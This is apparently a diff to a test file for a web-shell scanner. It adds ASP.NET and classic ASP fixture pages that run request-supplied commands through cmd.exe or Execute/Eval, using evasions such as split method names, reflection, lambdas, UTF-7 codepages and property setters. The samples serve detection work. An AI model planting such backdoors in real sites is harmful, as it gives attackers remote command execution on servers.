@@ -48,6 +48,12 @@ describe('scan: ASP.NET processes started indirectly, with a collection Get as i
       ['/www/d.aspx', `${VB_PAGE}<%\nDim c As String = Request.Form.Get("z")\nDim psi As New System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " & c)\npsi.RedirectStandardOutput = True\npsi.UseShellExecute = False\nDim p As New System.Diagnostics.Process()\np.StartInfo = psi\nDim f As Func(Of Boolean) = AddressOf p.Start\nf()\nResponse.Write(p.StandardOutput.ReadToEnd())\n%>`],
       // C#: the program from the request, started through a Func<bool> over the method group
       ['/www/cs.aspx', `${CS_PAGE}<%\nvar si = new System.Diagnostics.ProcessStartInfo();\nsi.FileName = Request.QueryString.Get("f");\nvar pr = new System.Diagnostics.Process();\npr.StartInfo = si;\nFunc<bool> kick = pr.Start;\nkick();\n%>`],
+      // VB.NET: Interaction.CallByName with the method's name in two pieces
+      ['/www/vb3.aspx', `${VB_PAGE}<%\nDim a As String = Request.Params.Get("a")\nDim si As New System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " & a)\nDim p As New System.Diagnostics.Process()\np.StartInfo = si\nInteraction.CallByName(p, "Sta" & "rt", CallType.Method)\n%>`],
+      // C#: GetValues(...)[0], GetMethod("Start").Invoke
+      ['/www/cs3.aspx', `${CS_PAGE}<%\nvar si = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.Params.GetValues("a")[0]);\nvar p = new System.Diagnostics.Process(); p.StartInfo = si;\ntypeof(System.Diagnostics.Process).GetMethod("Start", Type.EmptyTypes).Invoke(p, null);\n%>`],
+      // C#: global::, the StartInfo's program from the request, started in a lambda
+      ['/www/cs4.aspx', `${CS_PAGE}<%\nvar p = new global::System.Diagnostics.Process();\np.StartInfo.FileName = Request.Form.Get("f");\np.StartInfo.Arguments = Request.Form.Get("a");\nnew Action(() => p.Start())();\n%>`],
       // C#: reflection's InvokeMember("Start")
       ['/www/cs2.aspx', `${CS_PAGE}<%\nstring prog = Request.Params.Get("p");\nvar si = new System.Diagnostics.ProcessStartInfo();\nsi.FileName = prog;\nvar pr = new System.Diagnostics.Process();\npr.StartInfo = si;\npr.GetType().InvokeMember("Start", System.Reflection.BindingFlags.InvokeMethod, null, pr, null);\n%>`],
     ]);
@@ -76,6 +82,8 @@ describe('scan: classic ASP techniques of session 24 set G, samples of our own',
       ['/www/u.asp', `<%@codepage=00065000%>\n<%\n${utf7('Execute(Request.Form("p"))')}\n%>\n`],
       ['/www/u2.asp', `<%@ LANGUAGE="VBSCRIPT" CODEPAGE="000000000000065000" %>\n<% ${utf7('eval request("t")')} %>`],
       ['/www/u3.asp', `<%@ codepage = 65000 %><%${utf7('ExecuteGlobal Request.QueryString("w")')}%>`],
+      // (a character that is not ASCII in the same run as the code, and +- for a plus sign)
+      ['/www/u4.asp', `<%@ CodePage=0065000 %>\n<% n = 1 +- 2 : ${utf7('\u6ce8: Execute Request.Cookies("w")')} %>`],
     ]);
   });
 
@@ -109,6 +117,8 @@ describe('scan: classic ASP techniques of session 24 set G, samples of our own',
       ['/www/k.asp', '<%\nClass Runner\n  Private held\n  Public Property Let Code(v)\n    ExecuteGlobal(v)\n  End Property\nEnd Class\nSet r = New Runner\nr.Code = Request.Form("src")\n%>'],
       ['/www/k2.asp', '<%\nClass Box\n  Public Property Let Text(ByVal s)\n    Execute s\n  End Property\nEnd Class\nDim b : Set b = New Box\nt = Request.QueryString("t")\nWith b\n  .Text = t\nEnd With\n%>'],
       ['/www/k3.asp', '<%\nSub Perform(stmt)\n  Execute stmt\nEnd Sub\nPerform Request.Cookies("job")\n%>'],
+      // (through a variable, in a With block on a new object)
+      ['/www/k5.asp', '<%\nClass Sink\n Private Sub Class_Initialize()\n End Sub\n Public Property Let Body(s)\n  Execute s\n End Property\nEnd Class\nDim snk, v\nv = Request("x")\nWith New Sink\n .Body = v\nEnd With\n%>'],
       ['/www/k4.asp', '<%\nFunction Calc(expr)\n  Calc = Eval(expr)\nEnd Function\nResponse.Write Calc(Request("e"))\n%>'],
     ]);
   });
